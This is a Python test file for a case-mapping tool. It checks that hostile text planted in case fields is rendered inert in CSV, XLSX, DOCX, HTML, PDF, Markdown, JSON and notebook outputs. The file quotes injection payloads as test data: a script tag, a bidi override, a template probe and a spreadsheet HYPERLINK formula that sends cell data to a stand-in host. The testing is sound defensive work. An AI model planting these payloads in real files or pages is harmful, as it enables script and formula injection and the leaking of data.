"""Text that means to be more than text shows as text in every format, whatever field of the case it stands in."""

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import poison
import pytest
from attrs import evolve
from poison import BIDI, SEEN

from claimmap import outputs, workbench
from claimmap.case import Case
from claimmap.law import Law
from claimmap.report.dossier import Dossier

docx = pytest.importorskip("docx")
lxml_html = pytest.importorskip("lxml.html")
openpyxl = pytest.importorskip("openpyxl")

RIVER = Path(__file__).parent / "browser" / "river"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")


@pytest.fixture(scope="module")
def case(law: Law) -> Case:
    return poison.poisoned_case(workbench.load_case(RIVER, law))


@pytest.fixture(scope="module")
def found(case: Case, law: Law) -> Dossier:
    return outputs.dossier_of(case, law=law)


def squeezed(text: str) -> str:
    return "".join(text.split())


def assert_seen(text: str, *, what: tuple[str, ...] = SEEN) -> None:
    """Every hostile text is there to read, and no character that a reader cannot see turns or hides another."""
    flat = squeezed(text)
    for one in what:
        assert squeezed(one) in flat, one[:60]
    assert not set(text) & set(BIDI)
    assert not CONTROL.search(text)


def test_every_free_field_of_the_case_holds_hostile_text(case: Case):
    texts = [case.title, case.claims[0].title, case.events[0].title, case.people[0].role, case.people[0].name, case.sources[0].title,
             case.evidence[0].title, case.evidence[0].note, case.evidence[0].supports[0].shows, case.claims[0].note, case.claims[0].id]  # fmt: skip
    assert all(any(one in (text or "") for one in poison.HOSTILE) for text in texts)


def test_text(found: Dossier):
    text = outputs.WRITERS["text"](found).decode()
    assert not set(text) & set(BIDI)
    assert not CONTROL.search(text)
    assert squeezed("<script>document.title='run'</script>") in squeezed(text)
    assert "\\x1b[31m" in squeezed(text)


def test_markdown_has_no_markup_of_the_case(found: Dossier):
    text = outputs.WRITERS["md"](found).decode()
    assert not set(text) & set(BIDI)
    assert not CONTROL.search(text)
    assert not re.search(r"(?<!\\)<", text)
    assert not re.search(r"(?<!\\)\]\(", text)
    assert squeezed("<script>document.title='run'</script>") in squeezed(re.sub(r"\\(.)", r"\1", text))


def test_csv(found: Dossier):
    said: list[str] = []
    for name, data in outputs.csv_tables(found).items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
        assert {len(row) for row in rows} == {len(rows[0])}, name
        for row in rows[1:]:
            for cell in row:
                assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(r"-?\d+", cell), (name, cell[:40])
                said.append(cell)
    assert_seen("\n".join(said))


def test_xlsx(found: Dossier):
    book = openpyxl.load_workbook(io.BytesIO(outputs.WRITERS["xlsx"](found)))
    said: list[str] = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    said.append(cell.value)
    assert list(book.defined_names) == []
    assert_seen("\n".join(said))


def test_docx(found: Dossier):
    data = outputs.WRITERS["docx"](found)
    document = docx.Document(io.BytesIO(data))
    said = [one.text for one in document.paragraphs]
    said += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert_seen("\n".join(said))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        body = archive.read("word/document.xml").decode()
        relations = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")]
    assert "w:instrText" not in body
    assert "w:hyperlink" not in body
    assert not any('TargetMode="External"' in one for one in relations)


def test_page(found: Dossier):
    page = lxml_html.fromstring(outputs.WRITERS["html"](found))
    for one in page.xpath("//script | //style"):
        if one.get("id") != "data":
            one.getparent().remove(one)
    assert_seen(page.xpath("//main")[0].text_content())
    assert page.xpath("//img | //iframe | //object | //*[@id='planted'] | //a[not(starts-with(@href, '#'))]") == []
    assert [name for one in page.iter() for name in one.attrib if name.startswith("on")] == []


def test_json_gives_every_text_back_as_it_was(found: Dossier, case: Case):
    data = outputs.WRITERS["json"](found)
    assert not CONTROL.search(data.decode())
    plain = json.loads(data)
    assert plain["title"] == case.title
    assert [one["id"] for one in plain["claims"]] == [one.id for one in case.claims]


def test_notebook(found: Dossier, case: Case):
    for value in (found.report, found.report.claims[0], case, case.claims[0], case.evidence[0], case.sources[0]):
        faces = value._repr_mimebundle_()
        part = lxml_html.fromstring(f"<div>{faces['text/html']}</div>")
        assert part.xpath("//img | //script | //iframe | //*[@id='planted'] | //a[not(starts-with(@href, '#'))]") == []
        assert [name for one in part.iter() for name in one.attrib if name.startswith("on")] == []
        for text in (part.text_content(), faces["text/plain"], repr(value)):
            assert not set(text) & set(BIDI), type(value).__name__
            assert not CONTROL.search(text), type(value).__name__


def test_pdf(law: Law):
    pypdf = pytest.importorskip("pypdf")
    pytest.importorskip("weasyprint", exc_type=ImportError)
    river = workbench.load_case(RIVER, law)
    one_claim = evolve(river, claims=river.claims[:1])
    texts = tuple("w" * 3_000 if len(one) > 1_000 else one for one in poison.HOSTILE)
    found = outputs.dossier_of(poison.poisoned_case(one_claim, texts), law=law)
    reader = pypdf.PdfReader(io.BytesIO(outputs.WRITERS["pdf"](found)))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert not CONTROL.search(text.replace("\r", "\n"))
    for seen in ("<script>document.title='run'</script>", "\\u202ethgir", "{{7*7}}{%raw%}[[x]]", '=HYPERLINK("https://example.invalid/?"&A1;"click")'):
        assert seen in squeezed(text)
    for page in reader.pages:
        for mark in page.get("/Annots") or ():
            action = mark.get_object().get("/A") or {}
            assert "/URI" not in action
            assert action.get("/S") in (None, "/GoTo")
    assert "/JavaScript" not in str(reader.trailer["/Root"])
